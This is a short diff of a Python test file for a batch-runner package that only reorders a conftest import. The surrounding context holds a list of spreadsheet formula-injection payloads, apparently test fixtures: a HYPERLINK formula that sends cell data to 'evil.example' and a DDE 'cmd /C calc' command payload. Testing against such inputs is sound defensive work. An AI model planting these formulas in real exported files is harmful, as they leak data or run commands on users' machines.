@@ -15,7 +15,6 @@ import pandas as pd
 import pytest
 import yaml
 from aiohttp import web
-from conftest import ROOT, sim_env
 
 from batch_runner.app import RunRequest, execute
 from batch_runner.errors import TransportError
@@ -25,6 +24,8 @@ from batch_runner.results import results_frame
 from batch_runner.secrets import Secret
 from batch_runner.transport import Transport
 from batch_runner.urls import UnsafeUrlError, check_video_url, refuse_redirect
+
+from conftest import ROOT, sim_env
 
 FIXTURES_DIR = Path(__file__).parent / "fixtures"
 FORMULAS = ['=HYPERLINK("http://evil.example/?d="&A1,"click")', "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0",
